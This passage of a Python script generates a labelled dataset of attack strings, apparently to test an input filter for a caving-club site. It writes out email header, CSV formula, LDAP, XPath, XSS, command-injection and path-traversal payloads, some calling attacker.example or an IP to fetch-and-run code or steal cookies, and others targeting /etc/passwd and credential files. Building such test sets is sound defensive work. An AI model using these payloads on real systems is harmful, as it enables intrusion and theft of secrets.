mail	Dai\nBcc: dump@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>verify</a>
mail	jo@example.org⏎To: all-members@caves.example⏎X-Priority: 1
mail	Re: booking%0d%0aReply-To: billing@attacker.example
csvrow	Smith, J.",2,0,"paid"⏎"Admin Override",999,0,"=HYPERLINK(""https://attacker.example"",""refund"")
csvrow	2024-08-01;Bat Walk;28;12;40⏎2024-08-01;Refund;0;0;-5000
csvrow	O'Brien⏎2024-07-14,Crystal Gallery,9999,0,0,9999
csvrow	St. Mary's",14⏎"=cmd|' /C calc'!A0",0,"x
csvrow	note%0A%22%2Bcmd%7C%27%2Fc%20calc%27!A1%22,1,1
""")

LDAPX = block(r"""
ldap	*)(uid=*))(|(uid=*
ldap	gwen*)(|(objectClass=*)
ldap	admin)(&)
ldap	*)(|(userPassword=*)
ldap	dai)(|(memberOf=cn=admins,ou=groups,dc=caves,dc=example)
ldap	*))%00
ldap	x*)(userPassword=a*
ldap	guide)(!(cn=nobody))(|(cn=*
ldap	\2a)(objectClass=\2a
ldap	*)(mail=*@*))(|(mail=*
xpath	' or '1'='1
xpath	x' or 1=1 or 'a'='a
xpath	gwen' or name()='password' or 'a'='b
xpath	'] | //user/password | a['
xpath	') or count(//staff)>0 or ('a'='
xpath	x' and substring(//user[1]/pass,1,1)='s' and '1'='1
xpath	R-017' or string-length(name(/*[1]))>0 or 'x'='y
xpath	1 or 1=1] | //* | /a[1
xpath	bat'] | doc('http://attacker.example/x.xml')//a | //a['
xpath	*[contains(.,'admin')] | //password
""")

# ---- non-literal share: hand-written pools joined to hand-written theme prefixes ----
PREFIXES = [
    "Thanks for the lantern tour! ",
    "Booking note: 2 adults, ",
    "Trip report -- Swildon's to Sump 1. ",
    "Gear log R-030: ",
    "Bat count R2: 14, ",
    "Drill debrief: ",
]
XSS_POOL = [
    "<img src=q onerror=fetch('//attacker.example/x?'+document.cookie)>",
    "<svg/onload=alert(document.domain)>",
    "<iframe src=javascript:alert(1)>",
    "<details/open/ontoggle=prompt(1)>",
    "<body/onpageshow=alert(1)>",
]
CMDI_POOL = [
    "; curl -s attacker.example/i | sh",
    "$(id>/tmp/o)",
    "| wget -qO- 198.51.100.77/s|sh",
    "`sleep 9`",
    "&& cat /etc/passwd",
]
URLENC_SQLI = [
    "' OR 1=1 -- ",
]
URLENC_TRAV = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../../../proc/self/environ",
    "../.env",
    "../../../../var/www/.htpasswd",
    "../../../../home/guide/.aws/credentials",
]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def joined(rng, pool, n, cls):
    out = []
    seen = set()
    while len(out) < n:
        p = rng.choice(PREFIXES)
        q = rng.choice(pool)
        v = p + q
        if v in seen:
            continue
        seen.add(v)
        out.append((cls, v, False))
    return out


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for ln in f:
                benign.add(json.loads(ln)["value"])

    plan = [
        ("sqli", [(c, v, True) for c, v in SQLI] + [("encoded+urlencode", pct_all(v), False) for v in URLENC_SQLI]),
        ("xss", [(c, v, True) for c, v in XSS] + joined(rng, XSS_POOL, 3, "tag")),
        ("cmdi", [(c, v, True) for c, v in CMDI] + joined(rng, CMDI_POOL, 6, "sep")),
        ("traversal", [(c, v, True) for c, v in TRAVERSAL] + [("encoded+urlencode", pct_all(v), False) for v in URLENC_TRAV]),
        ("ssrf", [(c, v, True) for c, v in SSRF]),
        ("code", [(c, v, True) for c, v in CODE]),
        ("nosqli", [(c, v, True) for c, v in NOSQLI]),
        ("crlf", [(c, v, True) for c, v in CRLF]),
        ("ldap-xpath", [(c, v, True) for c, v in LDAPX]),
    ]
    rows = []
    seen = set()
    lit_total = 0
    for cat, items in plan:
        lit = sum(1 for _, _, l in items if l)
        lit_total += lit
        print("%-11s n=%3d literals=%3d" % (cat, len(items), lit))
        for cls, v, _ in items:
            assert 1 <= len(v) <= 2000, v
            assert v not in seen, ("dup", v)
            assert v not in benign, ("benign clash", v)
            for ch in v:
                o = ord(ch)
                assert o >= 32 or ch in "\n\r\t", repr(v)
            seen.add(v)
            rows.append((cat, cls, v))
    print("total", len(rows), "literals", lit_total, "%.1f%%" % (100.0 * lit_total / len(rows)))
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hakz-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
